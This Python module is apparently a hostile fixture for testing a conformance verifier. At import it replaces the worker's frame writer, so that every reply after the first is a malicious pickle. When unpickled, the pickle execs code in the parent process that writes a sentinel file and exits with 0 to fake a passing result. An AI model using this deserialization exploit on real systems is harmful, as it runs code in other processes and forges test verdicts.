"""Returns reference + 1 and, at import, replaces the worker's frame writer so that every reply
after the first is a pickle whose unpickling would write a sentinel file and exit its process
with 0 (the attack that made the old pickle channel report CONFORMS with exit 0)."""

from __future__ import annotations

import os
import pickle
import struct
import sys
from typing import IO, Any

import reference

SENTINEL = os.environ.get("HOSTILE_SENTINEL", os.path.join(os.path.dirname(__file__), ".pwned"))
CODE = f"open({SENTINEL!r}, 'w').write('unpickled in the parent'); import os; os._exit(0)"


class Payload:
    def __reduce__(self) -> Any:
        return (exec, (CODE,))


def _install() -> None:
    wire: Any = sys.modules.get("_conformance__wire") or sys.modules.get("verification.conformance._wire")
    if wire is None:
        return
    sent = {"n": 0}
    honest = wire.write_frame

    def write_frame(stream: IO[bytes], msg: Any) -> None:
        sent["n"] += 1
        if sent["n"] == 1:
            honest(stream, msg)
            return
        data = pickle.dumps({"status": "ok", "value": Payload(), "msg": msg}, protocol=pickle.HIGHEST_PROTOCOL)
        stream.write(struct.pack(">I", len(data)) + data)
        stream.flush()

    wire.write_frame = write_frame


_install()


def bt(r_chosen: Any, r_rejected: Any) -> Any:
    return reference.bt_loss(r_chosen, r_rejected) + 1.0
